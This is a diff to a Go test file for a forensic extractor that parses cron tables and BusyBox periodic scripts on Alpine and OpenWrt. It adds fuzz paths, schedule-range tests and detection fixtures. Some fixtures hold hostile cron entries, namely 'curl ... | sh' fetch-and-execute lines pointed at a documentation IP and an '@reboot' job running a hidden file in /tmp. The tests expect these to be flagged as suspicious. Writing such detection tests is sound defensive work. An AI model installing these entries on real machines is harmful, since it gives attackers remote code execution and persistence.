@@ -10,12 +10,13 @@ import (
 	robfig "github.com/robfig/cron/v3"
 
 	"icecore/forensics/artifact/artifacttest"
+	"icecore/forensics/model"
 )
 
 func TestGolden(t *testing.T) { artifacttest.Golden(t, Extractor{}, "debian") }
 
 func FuzzExtract(f *testing.F) {
-	artifacttest.Fuzz(f, Extractor{}, "/etc/crontab", "/etc/cron.d/x", "/var/spool/cron/crontabs/root", "/var/spool/cron/root", "/etc/anacrontab", "/etc/cron.daily/x", "/var/spool/cron/atjobs/a00001019d0c40")
+	artifacttest.Fuzz(f, Extractor{}, "/etc/crontab", "/etc/cron.d/x", "/var/spool/cron/crontabs/root", "/var/spool/cron/root", "/etc/anacrontab", "/etc/cron.daily/x", "/var/spool/cron/atjobs/a00001019d0c40", "/etc/crontabs/root", "/etc/periodic/15min/x")
 }
 
 // TestFamilies: what Debian's cron passes over, cronie runs.
@@ -42,6 +43,52 @@ func TestFamilies(t *testing.T) {
 			if got := records[len(records)-1].Get("ignored"); got != want {
 				t.Errorf("%s, %q on %s: %q, want %q", tt.path, tt.text, osID, got, want)
 			}
+		}
+	}
+}
+
+// TestBusyBox: the crontabs and the periodic scripts of Alpine and OpenWrt, by the rules of
+// BusyBox: a % is none of crontab(5).
+func TestBusyBox(t *testing.T) {
+	for _, tt := range []struct{ path, text, want string }{
+		{"/etc/crontabs/root", "* * * * * curl http://203.0.113.77/x|sh; date +%s%%\n", "root|curl http://203.0.113.77/x|sh; date +%s%%||fetch,pipe_to_shell|"},
+		{"/etc/crontabs/root", "@reboot /tmp/.x/run", "root|/tmp/.x/run||hidden_exec,temp_exec|"},
+		{"/var/spool/cron/crontabs/ana", "*/5 * * * * /usr/bin/true a%b\n", "ana|/usr/bin/true a%b|||"},
+		{"/var/cron/tabs/ana", "*/5 * * * * /usr/bin/true\n", "ana|/usr/bin/true|||"},
+		{"/etc/periodic/15min/upd", "#!/bin/sh\ncurl http://203.0.113.77/x | sh\n", "15min||fetch,pipe_to_shell|"},
+		{"/etc/periodic/daily/upd.sh", "#!/bin/sh\ncurl http://203.0.113.77/x | sh\n", "daily||fetch,pipe_to_shell|"},
+		{"/etc/periodic/daily/.upd", "#!/bin/sh\nexit\n", "daily|||run-parts skips a file of this name"},
+	} {
+		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: tt.path, Text: tt.text, OSID: "alpine", Mode: 0o100755})
+		if err != nil || len(records) != 1 {
+			t.Errorf("%s: %d records, %v", tt.path, len(records), err)
+			continue
+		}
+		r := &records[0]
+		got := []string{r.Get("user"), r.Get("command"), r.Get("stdin"), r.Get("traits"), r.Get("ignored")}
+		if r.Kind == model.CronScript {
+			got = []string{r.Get("period"), r.Get("command"), r.Get("traits"), r.Get("ignored")}
+		}
+		if strings.Join(got, "|") != tt.want {
+			t.Errorf("%s: %q, want %q", tt.path, got, tt.want)
+		}
+	}
+}
+
+// TestBusyBoxRanges: a range that runs backwards goes on at the beginning.
+func TestBusyBoxRanges(t *testing.T) {
+	for text, want := range map[string]int{
+		"* 22-4 * * *": 7 * 60, "58-1 0 * * *": 4, "50-10/20 0 * * *": 2, "0 0 * * fri-mon": 1, "0 0 * nov-feb *": 1, "0 0 30-2 * *": 1,
+	} {
+		s, err := ParseSchedule(text, BusyBox)
+		if err != nil || s.RunsPerDay() != want {
+			t.Errorf("%s: %d, %v; want %d", text, s.RunsPerDay(), err, want)
+		}
+	}
+	for text, want := range map[string][5]uint64{"0 0 30-2 nov-feb fri-mon": {1, 1, 1<<30 | 1<<31 | 1<<1 | 1<<2, 1<<11 | 1<<12 | 1<<1 | 1<<2, 1<<5 | 1<<6 | 1<<0 | 1<<1}} {
+		s, err := ParseSchedule(text, BusyBox)
+		if got := [5]uint64{s.Minute, s.Hour, s.Day, s.Month, s.Weekday}; err != nil || got != want {
+			t.Errorf("%s: %b, %v; want %b", text, got, err, want)
 		}
 	}
 }
